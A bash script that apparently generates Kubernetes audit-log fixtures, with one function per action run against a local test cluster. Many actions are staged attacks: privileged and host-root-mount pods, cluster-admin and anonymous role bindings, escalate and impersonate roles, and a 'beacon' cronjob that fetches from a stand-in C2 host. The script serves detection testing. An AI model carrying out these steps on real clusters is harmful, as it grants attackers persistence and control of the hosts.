#!/bin/bash
# The actions behind the files in events/, one function each, in the order in which they were
# recorded. README.md says how. A, L and B run kubectl as the users admin, alice and bob; C is
# curl -sk without a credential.

pod() { A create --validate=false -f - <<<"{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"name\":\"$1\",\"namespace\":\"$2\"},\"spec\":$3}"; }

disallowed_user() { L get pods -n default; }
pod_plain() { pod plain default '{"containers":[{"name":"c","image":"registry.example:5000/team/app:1.2","command":["/bin/app","-v"],"args":["serve","--port=80"],"ports":[{"containerPort":80,"hostPort":8080},{"containerPort":81}]}]}'; }
pod_privileged() { pod privileged default '{"containers":[{"name":"c","image":"busybox:1.36","securityContext":{"privileged":true}}]}'; }
pod_privileged_init() { pod privileged-init default '{"initContainers":[{"name":"i","image":"alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000","securityContext":{"privileged":true}}],"containers":[{"name":"c","image":"busybox"}]}'; }
pod_sensitive_mount() { pod mount default '{"containers":[{"name":"c","image":"busybox","volumeMounts":[{"name":"root","mountPath":"/host"}]}],"volumes":[{"name":"root","hostPath":{"path":"/"}},{"name":"tmp","emptyDir":{}}]}'; }
pod_hostnetwork() { pod hostnetwork default '{"hostNetwork":true,"containers":[{"name":"c","image":"busybox"}]}'; }
pod_hostpid() { pod hostpid default '{"hostPID":true,"containers":[{"name":"c","image":"busybox"}]}'; }
pod_hostipc() { pod hostipc default '{"hostIPC":true,"containers":[{"name":"c","image":"busybox"}]}'; }
pod_capabilities() { pod caps default '{"securityContext":{"runAsUser":1000,"runAsGroup":2000,"fsGroup":3000,"supplementalGroups":[4,5]},"containers":[{"name":"c","image":"busybox","securityContext":{"capabilities":{"add":["SYS_ADMIN","NET_RAW"]},"allowPrivilegeEscalation":true,"readOnlyRootFilesystem":true}},{"name":"d","image":"busybox:2","securityContext":{"runAsUser":0}}]}'; }
pod_kube_system() { pod intruder kube-system '{"containers":[{"name":"c","image":"busybox"}]}'; }
pod_mirror_denied() { B create --validate=false -f - <<<'{"apiVersion":"v1","kind":"Pod","metadata":{"name":"denied","namespace":"default"},"spec":{"hostNetwork":true,"containers":[{"name":"c","image":"busybox","securityContext":{"privileged":true}}]}}'; }
deployment_privileged() { A create --validate=false -f - <<<'{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"agent","namespace":"default"},"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"hostPID":true,"containers":[{"name":"c","image":"busybox","securityContext":{"privileged":true}}]}}}}'; }
service_nodeport() { A create service nodeport door --tcp=80:8080; }
configmap_credentials() { A create configmap creds --from-literal=password=hunter2; }
anonymous_version() { C https://127.0.0.1:6443/version; }
anonymous_health() { C https://127.0.0.1:6443/livez?verbose; }
anonymous_denied() { C https://127.0.0.1:6443/api/v1/namespaces/default/secrets; }
bad_token() { C -H 'Authorization: Bearer wrong' https://127.0.0.1:6443/api/v1/namespaces/default/pods; }
exec() { A exec plain -- /bin/sh -c id; }
attach() { A attach plain -c c; }
portforward() { A port-forward pod/plain 18080:80; C -X POST -H 'Authorization: Bearer admin-token' 'https://127.0.0.1:6443/api/v1/namespaces/default/pods/plain/portforward?ports=80'; }
ephemeral() { A debug plain --image=busybox:debug --attach=false -c dbg --profile=general; }
namespace_create() { A create namespace evil; }
namespace_delete() { A delete namespace evil --wait=false; }
sa_kube_system() { A create serviceaccount robot -n kube-system; }
sa_create() { A create serviceaccount robot; }
sa_delete() { A delete serviceaccount robot --wait=false; }
system_clusterrole_patch() { A label clusterrole system:node-proxier touched=yes; }
system_role_delete() { A delete role system:controller:token-cleaner -n kube-system --wait=false; }
bind_cluster_admin() { A create clusterrolebinding root --clusterrole=cluster-admin --user=mallory --group=ops --serviceaccount=default:robot; }
bind_anonymous() { A create rolebinding open --clusterrole=view --group=system:unauthenticated -n default; }
role_wildcard() { A create clusterrole god '--verb=*' '--resource=*'; }
role_write() { A create role writer --verb=create,delete --resource=pods; }
role_exec() { A create clusterrole shell --verb=create,get --resource=pods/exec; }
role_escalate() { A create --validate=false -f - <<<'{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"climb"},"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["bind","escalate"]},{"apiGroups":[""],"resources":["users"],"verbs":["impersonate"]}]}'; }
role_read() { A create role reader --verb=get,list --resource=secrets; }
clusterrole_delete() { A delete clusterrole god --wait=false; }
role_delete() { A delete role writer --wait=false; }
rolebinding_create() { A create rolebinding read --role=reader --user=dev; }
rolebinding_delete() { A delete rolebinding read --wait=false; }
clusterrolebinding_delete() { A delete clusterrolebinding root --wait=false; }
deployment_create() { A create deployment web --image=nginx:1; }
deployment_delete() { A delete deployment web --wait=false; }
service_create() { A create service clusterip web --tcp=80:80; }
service_delete() { A delete service web --wait=false; }
configmap_create() { A create configmap plain --from-literal=colour=blue; }
configmap_delete() { A delete configmap plain --wait=false; }
secret_create() { A create secret generic token --from-literal=k=v; }
secret_get() { A get secret token; }
secret_missing() { A get secret none; }
secret_list() { A get secrets -A; }
secret_denied() { B get secrets -n kube-system; }
secret_delete() { A delete secret token --wait=false; }
ingress_plain() { A create ingress front --rule=a.example/=web:80; }
ingress_tls() { A create ingress front-tls --rule=a.example/=web:80,tls=cert; }
node_join() { A create --validate=false -f - <<<'{"apiVersion":"v1","kind":"Node","metadata":{"name":"node-x"}}'; }
node_join_denied() { B create --validate=false -f - <<<'{"apiVersion":"v1","kind":"Node","metadata":{"name":"node-y"}}'; }
node_proxy() { A get --raw /api/v1/nodes/node-x/proxy/runningpods/; }
token_request() { A create token default -n default || { A create serviceaccount default -n default; A create token default -n default; }; }
impersonate() { A get pods --as=system:serviceaccount:kube-system:robot; }
impersonate_denied() { B get pods --as=admin; }
can_i_list() { B auth can-i --list; }
webhook_create() { A create --validate=false -f - <<<'{"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{"name":"inject"},"webhooks":[{"name":"a.b.example","clientConfig":{"url":"https://127.0.0.1:1/x"},"rules":[{"apiGroups":["none.example"],"apiVersions":["v1"],"operations":["CREATE"],"resources":["nones"]}],"failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"]}]}'; }
webhook_delete() { A delete mutatingwebhookconfiguration inject --wait=false; }
csr_create() { A create --validate=false -f - <<<"{\"apiVersion\":\"certificates.k8s.io/v1\",\"kind\":\"CertificateSigningRequest\",\"metadata\":{\"name\":\"mallory\"},\"spec\":{\"request\":\"$(openssl req -new -newkey rsa:2048 -nodes -keyout /dev/null -subj /CN=mallory 2>/dev/null | base64 -w0)\",\"signerName\":\"kubernetes.io/kube-apiserver-client\",\"usages\":[\"client auth\"]}}"; }
csr_approve() { A certificate approve mallory; }
pod_get() { A get pod plain; }
pod_delete() { A delete pod plain --wait=false --grace-period=0 --force; }
cronjob_create() { A create cronjob beacon --image=busybox '--schedule=*/5 * * * *' -- wget -qO- http://c2.example; }
collection_delete() { C -X DELETE -H 'Authorization: Bearer admin-token' 'https://127.0.0.1:6443/api/v1/namespaces/default/events'; }
anonymous_secrets() { A create rolebinding open2 --role=reader --group=system:unauthenticated -n default >/dev/null; C https://127.0.0.1:6443/api/v1/namespaces/default/secrets; }
role_nodes_proxy() { A create clusterrole kubelet-reader --verb=get --resource=nodes/proxy,secrets; }
